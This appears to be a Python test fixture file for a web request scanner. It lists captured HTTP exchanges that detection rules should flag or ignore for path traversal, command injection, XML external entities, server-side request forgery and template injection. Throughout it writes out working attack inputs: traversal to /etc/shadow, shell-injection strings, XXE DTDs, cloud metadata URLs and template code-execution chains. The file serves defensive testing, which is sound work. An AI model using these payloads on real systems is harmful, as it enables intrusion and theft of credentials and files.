"""Input that reached files, commands, parsers, templates or other servers."""

from base64 import b64encode
from urllib.parse import quote

from reqsift.domain.captures import Exchange
from tests.corpus.rules.exchanges import (
    JSON,
    TEXT,
    Cases,
    Table,
    data,
    exchange,
    sent_json,
)

PASSWD = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/:/bin/sh\n"
META = "ami-id\nhostname\niam/\ninstance-id\n"
DTD = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>'
HTTP_DTD = '<!DOCTYPE a [<!ENTITY x SYSTEM "http://169.254.169.254/">]><a>&x;</a>'
INTERNAL = '<!DOCTYPE a [<!ENTITY x "text">]><a>&x;</a>'
XML = "application/xml"
INNER = "http://169.254.169.254/latest/meta-data/"
NAMED = '<!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/hostname">]><o><city>&x;</city></o>'
MISSING = '<!DOCTYPE o SYSTEM "file:///nowhere/a.dtd"><o/>'
INCLUDE = (
    '<o xmlns:i="http://www.w3.org/2001/XInclude"><note><i:include parse="text" '
    'href="/etc/hostname"/></note></o>'
)
UID = "uid=1001(app) gid=1001(app) groups=1001(app)\n"
SHADOW = "root:$6$Vt0xSalt$Qm3.1c/uFZkd:19801:0:99999:7:::\nbin:*:19700:0:99999:7:::\n"
CODE = b64encode(b"<?php\n$dsn = 'mysql:host=db'; $pass = 'x';\n").decode()
DIGEST = b64encode(bytes(range(120, 180))).decode()
RUNTIME = "Dear java.lang.Runtime@4e515669"


def with_input(value: str, text: str, name: str = "v", status: int = 200) -> Exchange:
    url = f"https://shop.example/tool?{name}={quote(value, safe='')}"
    return exchange(url, text, TEXT, status=status)


def shown(address: str, body: str) -> Exchange:
    """The HTML that a tool shows for an address."""
    return exchange(f"https://shop.example/preview?u={quote(address, safe='')}", body)


def posted(sent: str, text: str, kind: str = XML, status: int = 200) -> Exchange:
    return exchange(text=text, kind=kind, form=sent, form_type=XML, status=status)


TABLE: Table = {
    "path-traversal": Cases(
        noticed=(
            with_input("../../etc/passwd", PASSWD),
            with_input("..\\win.ini", "; for 16-bit app support"),
            exchange("https://shop.example/static/../../etc/passwd", PASSWD, TEXT),
            with_input("../../etc/shadow", "cannot open /srv/f/../../etc/shadow", status=404),
            with_input("/proc/1/environ", "HOSTNAME=web-3\0PATH=/usr/bin:/bin\0API_KEY=k\0"),
            with_input("php://filter/read=convert.base64-encode/resource=db.inc", f"<p>{CODE}</p>"),
            with_input("../../conf/app.ini", "; main\n[mail]\nhost = smtp.example\n"),
            with_input("..%5c..%5c.env", "APP_ENV=production\nDB_HOST=db\nDB_PASS=x\n"),
            exchange("https://shop.example/docs/..;/..;/WEB-INF/web.xml", "<web-app >", XML),
            exchange("https://shop.example/a/%252e%252e/%252e%252e/etc/passwd", PASSWD, TEXT),
            exchange("https://shop.example/cgi/%2e./%2e./etc/shadow", SHADOW, TEXT),
        ),
        silent=(
            with_input("php://filter/read=convert.base64-encode/resource=x", "<p>No such page</p>"),
            with_input("php://filter/convert.base64-encode/resource=x", f"<i>{DIGEST}</i>"),
            with_input("../conf/app.ini", "Section [mail] is missing in your file"),
            exchange("https://shop.example/a..b/%2e/settings.ini", "[mail]\nhost = a\n", TEXT),
            exchange("https://shop.example/a/../etc/passwd", "<h1>Not found</h1>", status=404),
            with_input("manual", "PATH=/usr/bin:/bin HOME=/root"),
            with_input("../../etc/passwd", "invalid name", status=400),
            with_input("manual.txt", PASSWD),
            with_input("../../etc/passwd", "No file called ../../etc/passwd", status=404),
            with_input("../css/site.css", "body { color: black }"),
            with_input("/home/", "Our home: root: the beginning"),
        ),
    ),
    "command-injection": Cases(
        noticed=(
            exchange(
                "https://wiki.shop.example/%24%7B%28%23r%3D%40java.lang.Runtime%40getRuntime%28%29%29%7D/",
                status=302,
                got={"X-Out": UID.strip(), "Location": "/login"},
            ),
            with_input("192.0.2.1;id", "PING\nuid=33(www-data) gid=33(www-data)"),
            with_input("a|cat /etc/passwd", PASSWD),
            with_input("$(ls -l)", "total 12\ndrwxr-xr-x 2 www www 4096 Mar  2 uploads"),
            with_input("a&ipconfig", "\r\nWindows IP Configuration\r\n\r\n"),
            with_input("x`uname -a`", "Linux shop-1 6.1.0-18-amd64 #1 SMP x86_64 GNU/Linux"),
            with_input("8.8.4.4&&cat /etc/shadow", SHADOW),
            with_input("a.doc|whoami", "converting a.doc\r\nIIS APPPOOL\\Convert"),
            with_input("a;sleep 9", 'Error: Command failed: /bin/sh -c "gm a;sleep 9"', status=500),
            with_input("x$(id).png", "['/bin/bash', '-c', 'convert x$(id).png']", status=500),
            exchange(text=UID, kind=TEXT, sent={"Referer": "() { ignored; }; /bin/id"}),
            exchange(text=UID, kind=TEXT, sent={"Content-Type": "%{#a='id'}.multipart/form-data"}),
            exchange("https://wiki.example/%24%7B%40a%40b(%22id%22)%7D/", UID, TEXT),
        ),
        silent=(
            exchange(
                "https://wiki.shop.example/%24%7B%28%23r%3D%40java.lang.Runtime%40getRuntime%28%29%29%7D/",
                status=302,
                got={"X-Out": "uid=anna", "Location": "/login"},
            ),
            exchange(text="<p>OK</p>", sent={"User-Agent": "() { :; }; /bin/id"}),
            exchange(text=UID, kind=TEXT, sent={"X-Trace": '{"span":"1"}'}),
            with_input("a;sleep 9", "No file called a;sleep 9 (try bash or sh)", status=404),
            with_input("a; b", "Run it with sh -c 'make'.\nYou searched for a; b"),
            with_input("192.0.2.1;id", "invalid host", status=400),
            with_input("192.0.2.1", "uid=33(www-data) gid=33"),
            with_input("x; uid=33(www-data) gid=33", "x; uid=33(www-data) gid=33"),
            with_input("salt & pepper", "2 results for salt & pepper"),
        ),
    ),
    "xml-external-entity": Cases(
        noticed=(
            exchange(text=PASSWD, kind=TEXT, form=DTD, form_type=XML),
            exchange(text="failed to load external entity", kind=TEXT, form=DTD, form_type=XML),
            exchange(text=f"<r>{META}</r>", kind=XML, form=HTTP_DTD, form_type=XML),
            exchange(
                text="java.io.FileNotFoundException: /nowhere (No such file)",
                kind=TEXT,
                form=DTD,
                form_type="text/xml",
                status=500,
            ),
            posted(NAMED, "<order><city>db-7.internal</city></order>"),
            posted(NAMED, '{"city": "db-7.internal", "id": 4}', JSON),
            posted(INCLUDE, "<order><note>web-12\n</note></order>"),
            posted(MISSING, "IOError: [Errno 2] No such file: '/nowhere/a.dtd'", TEXT, 500),
            posted(
                MISSING.replace("file:///nowhere", "http://10.9.9.9"),
                "<fault>Connection refused: http://10.9.9.9/a.dtd</fault>",
                status=500,
            ),
        ),
        silent=(
            posted(NAMED, "<order><city>&amp;x;</city></order>"),
            posted(NAMED, "<order><city></city><state>unknown</state></order>"),
            posted(NAMED, "<order><city>unknown</city></order>"),
            posted("<o><city>&nbsp;</city></o>", "<o><city>Basel</city></o>"),
            posted(MISSING, "<error>DOCTYPE is not allowed</error>", status=400),
            posted(MISSING, "No such file in your cart", TEXT, 404),
            posted("<o><city>Bern</city></o>", "<o><city>Basel</city></o>"),
            exchange(text="DTDs are refused", kind=TEXT, form=DTD, form_type=XML, status=400),
            exchange(text=PASSWD, kind=TEXT, form="<a>b</a>", form_type=XML),
            exchange(text="<ok/>", kind=XML, form=INTERNAL, form_type=XML),
            exchange(text="<ok/>", kind=XML, form=DTD, form_type=XML),
        ),
    ),
    "server-side-request": Cases(
        noticed=(
            data(
                {"status": 200, "body": "# HELP jobs\njobs 4", "docs": "/docs/errors"},
                "https://api.shop.example/hooks/test",
                **sent_json({"url": "http://10.4.0.7:9090/status"}),
            ),
            data(
                {"ok": True, "error": None, "preview": '{"Datacenter":"fra1"}'},
                "https://api.shop.example/links/preview",
                **sent_json({"url": "http://192.168.4.2:8500/v1/agent/self"}),
            ),
            with_input(INNER, META, "url"),
            with_input("http://localhost:6379/", "redis_version:7.0.1", "url"),
            with_input("http://10.0.0.7/status", "jobs waiting: 12, running: 4", "url"),
            with_input("http://metadata.internal/", '{"azEnvironment": "AzurePublicCloud"}', "src"),
            shown("http://192.168.7.4:8080/", '<base href="http://192.168.7.4:8080/"><p>Login</p>'),
            shown("http://10.2.0.9/x", "<title>Grafana</title><p>at 10.2.0.9</p>"),
            posted(HTTP_DTD.replace(">&x;</a>", "><b>&x;</b></a>"), "<a><b>i-0ab12</b></a>"),
        ),
        silent=(
            data(
                {"status": 0, "error": "private address refused", "docs": "/docs/errors"},
                "https://api.shop.example/hooks/test",
                **sent_json({"url": "http://10.4.0.7:9090/status"}),
            ),
            data(
                {"errors": [{"code": 7}], "help": "https://shop.example/help"},
                "https://api.shop.example/hooks/test",
                **sent_json({"url": "http://10.4.0.7:9090/status"}),
            ),
            shown("http://10.2.0.9/x", "<title>My links</title><a href='http://10.2.0.9/x'>x</a>"),
            shown("http://10.2.0.9/x", '<base href="https://shop.example/"><title>Shop</title>'),
            shown("http://10.2.0.9/x", "<title>Routers for your home</title>"),
            posted(HTTP_DTD.replace(">&x;</a>", "><b>&x;</b></a>"), "<a><b>error</b></a>"),
            posted(NAMED, "<order><city>db-7.internal</city></order>"),
            with_input(INNER, "address not allowed", "url"),
            with_input(INNER, META, "url", status=403),
            with_input("https://cdn.example/a", "some text from there", "url"),
            with_input("http://10.0.0.7/status", "address is invalid: private", "url"),
            with_input("http://localhost:3000/", "jobs waiting: 12, running: 4", "q"),
        ),
    ),
    "template-injection": Cases(
        noticed=(
            with_input("Dear {{2**31-1}}", "<p>Dear 2147483647</p>"),
            with_input("Bill: ${7*7} items", "Bill of 3 March: 49 items"),
            with_input("Hi {{7*7}}", "Subject: Hi 49"),
            with_input("${191*7}", "1337"),
            with_input("{{x", "jinja2.exceptions.TemplateSyntaxError", status=500),
            with_input("<%= 191*7 %>", "Dear 1337 ,"),
            with_input("#{191*7}", "Hello 1337!"),
            with_input("{{3*'ab'}}x{{3*'abc'}}", "Hi ababab"),
            with_input("{{'9'*8}}", "Order for 99999999 placed"),
            with_input("{{ config }}", "Hello &lt;Config {&#39;DEBUG&#39;: True}&gt;"),
            with_input("{{''.__class__.__mro__}}", "(<class 'str'>, <class 'object'>)"),
            with_input("{{cycler.__init__.__globals__.os.popen('id').read()}}", f"Hi {UID}"),
            with_input('${"x".class.forName("java.lang.Runtime").getRuntime()}', RUNTIME),
        ),
        silent=(
            with_input("{{2**99999}}", "Dear reader"),
            with_input("{{2**31-1}}", "Dear {{2**31-1}}"),
            with_input("Bill: ${7*7} items", "Bill of 3 March: 4 items"),
            with_input("{{'9'*8}}", "Order for {{'9'*8}} placed"),
            with_input("{{'9'*8}}", "Call 1999999999"),
            with_input("{{ config }}", "Nothing configured"),
            with_input("{{ config }}", "You wrote {{ config }}: &lt;Config {&#39;a&#39;: 1}&gt;"),
            with_input("hello", "&lt;Config {&#39;DEBUG&#39;: True}&gt;"),
            with_input("Hi {{7*7}}", "Subject: Hi {{7*7}}"),
            with_input("{{7*7}}", "thank you"),
            with_input("7*7", "49"),
            with_input("{{7*7}}", "Total: 49.90"),
            with_input("{name}", "Dear Anna"),
        ),
    ),
}
